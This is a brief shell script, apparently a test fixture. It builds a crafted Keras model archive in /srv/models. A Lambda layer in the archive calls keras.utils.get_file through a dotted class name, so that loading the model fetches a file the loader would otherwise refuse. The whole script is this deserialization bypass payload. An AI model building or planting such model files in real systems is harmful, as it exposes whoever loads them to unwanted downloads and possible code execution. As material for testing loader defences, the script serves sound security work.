#!/bin/sh
# A Keras model that fetches a file by a dotted name of a class that is refused under its own.
# host: services
mkdir -p /srv/models
python3 - <<'EOF'
import json, zipfile
lambda_layer = {"module": "keras", "class_name": "layers.Lambda", "config": {"function": {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file"}}}
with zipfile.ZipFile("/srv/models/a.keras", "w") as archive:
    archive.writestr("config.json", json.dumps({"module": "keras", "class_name": "Sequential", "config": {"layers": [lambda_layer]}}))
EOF
